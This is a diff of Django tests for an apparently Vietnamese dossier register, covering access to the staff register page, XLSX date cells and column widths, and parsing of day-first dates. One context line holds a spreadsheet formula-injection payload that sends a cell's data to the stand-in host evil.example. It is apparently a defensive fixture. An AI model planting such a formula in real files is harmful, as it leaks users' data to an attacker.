@@ -129,9 +129,10 @@ def test_only_reception_and_leaders_read_the_register(agency, citizen, specialis
 def test_workspace_links_the_register_for_reception_only(client, reception, specialist):
     client.force_login(reception)
     page = client.get("/can-bo/").content.decode()
-    assert 'action="/api/v1/register/"' in page and "Sổ theo dõi hồ sơ" in page
+    assert 'action="/can-bo/so-theo-doi/"' in page and "Sổ theo dõi hồ sơ" in page
     client.force_login(specialist)
-    assert 'action="/api/v1/register/"' not in client.get("/can-bo/").content.decode()
+    assert 'action="/can-bo/so-theo-doi/"' not in client.get("/can-bo/").content.decode()
+    assert client.get("/can-bo/so-theo-doi/?date_from=01/03/2026").status_code == 403
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&F2,"Xem hồ sơ")'
@@ -196,3 +197,43 @@ def test_register_gives_the_return_time_and_the_applicants_locality(
 )
 def test_address_locality(address, locality):
     assert address_locality(address) == locality
+
+
+def test_xlsx_dates_are_date_cells_shown_day_first_in_readable_columns(period_dossiers, leader):
+    # Issue 23.4: a real date cell (sortable) displayed dd/mm/yyyy, and columns wide enough.
+    from openpyxl import load_workbook
+
+    r = api_for(leader).get("/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx")
+    sheet = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
+    received, due = sheet["I2"], sheet["J2"]
+    assert received.is_date and received.data_type == "d"  # a date, not text
+    assert received.value == dt.datetime(2026, 3, 2, 9, 0)
+    assert received.number_format == "dd/mm/yyyy hh:mm" and due.number_format.startswith(
+        "dd/mm/yyyy"
+    )
+    assert sheet["B2"].data_type == "s"  # the dossier code stays text
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCEFIJO"}
+    assert widths["A"] < widths["B"] < widths["C"]
+    assert all(widths[letter] >= 16 for letter in "IJ")  # "dd/mm/yyyy hh:mm" is 16 characters
+    assert widths["E"] >= 20 and widths["F"] >= 30 and widths["O"] >= 24
+
+
+def test_the_workspace_register_form_takes_day_first_dates_and_hands_iso_to_the_api(
+    client, reception
+):
+    # Issue 23.4: the form shows and takes dd/mm/yyyy; the API keeps YYYY-MM-DD (API.md).
+    client.force_login(reception)
+    page = client.get("/can-bo/").content.decode()
+    assert 'id="register-date_from"' in page and 'placeholder="dd/mm/yyyy"' in page
+    assert 'type="date"' not in page
+    r = client.get("/can-bo/so-theo-doi/?date_from=01/03/2026&date_to=31/03/2026&format=xlsx")
+    assert r.status_code == 302
+    assert r["Location"] == "/api/v1/register/?from=2026-03-01&to=2026-03-31&format=xlsx"
+    r = client.get("/can-bo/so-theo-doi/?date_from=2026-03-01&date_to=2026-03-31&format=csv")
+    assert r["Location"] == "/api/v1/register/?from=2026-03-01&to=2026-03-31&format=csv"
+    bad = client.get("/can-bo/so-theo-doi/?date_from=31/02/2026&date_to=01/03/2026&format=csv")
+    assert bad.status_code == 400
+    assert "Ngày không hợp lệ: nhập theo dạng ngày/tháng/năm" in bad.content.decode()
+    backwards = client.get("/can-bo/so-theo-doi/?date_from=31/03/2026&date_to=01/03/2026")
+    assert backwards.status_code == 400
+    assert "Ngày kết thúc phải sau hoặc bằng ngày bắt đầu." in backwards.content.decode()
